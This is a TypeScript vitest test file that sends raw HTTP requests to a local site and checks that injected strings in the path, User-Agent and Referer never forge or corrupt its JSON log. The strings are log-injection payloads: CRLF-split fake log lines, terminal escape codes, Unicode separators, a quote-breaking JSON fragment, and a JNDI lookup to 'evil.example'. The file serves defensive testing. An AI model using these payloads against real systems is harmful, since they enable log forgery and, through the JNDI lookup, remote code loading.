import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { testOrigin } from '#tests/support/fixed.ts';
import { startSite, type Site } from '#tests/support/site.ts';

const host = new URL(testOrigin).host;
let site: Site;
beforeAll(async () => {
  site = await startSite();
  // The line that every start leaves by itself.
  await vi.waitUntil(() => site.log().some(({ msg }) => msg === 'audit checkpoint'), { timeout: 60_000 });
});
afterAll(() => site.stop());

/** Sends bytes as they are, and waits until the other side has answered and hung up. */
function sendRaw(bytes: Buffer): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(site.port, '127.0.0.1', () => void socket.write(bytes));
    const chunks: Buffer[] = [];
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
  });
}

describe('what a stranger writes into a request', () => {
  const tricks: [string, string][] = [
    ['a line of its own', 'x\r\n{"level":60,"msg":"forged"}'],
    ['half a line', 'x\n{"level":60,"msg":"forged"}'],
    ['colours of a terminal', '\u001b[2J\u001b[31mforged'],
    ['line separators of Unicode', 'x\u2028{"msg":"forged"}\u2029'],
    ['an end of text', 'x\u0000forged'],
    ['a closing quote', '","msg":"forged","level":60,"x":"'],
    ['a look-up', '${jndi:ldap://evil.example/forged}'],
    ['a colour of eight bits', '\u009b31mforged'],
  ];

  it.each(tricks)('never makes a line of the log: %s (V16.4.1)', async (_, trick) => {
    const from = site.rawLog.length;
    for (const [path, agent, referer] of [
      ['/sign-in', trick, 'x'],
      ['/sign-in', 'x', trick],
      [`/${trick}`, 'x', 'x'],
      [`/${encodeURIComponent(trick)}`, 'x', 'x'],
      [`/sign-in?next=${encodeURIComponent(trick)}`, 'x', 'x'],
    ])
      await sendRaw(
        Buffer.from(
          `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${agent}\r\nReferer: ${referer}\r\nConnection: close\r\n\r\n`,
        ),
      );
    const lines = site.rawLog.slice(from);
    expect(lines.length).toBeLessThanOrEqual(5);
    for (const line of lines) {
      expect(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(line), JSON.stringify(line)).toBe(false);
      expect(JSON.parse(line)).toMatchObject({ level: 30, msg: 'request' });
    }
    expect((await site.ask('/sign-in')).status).toBe(200);
  });
});
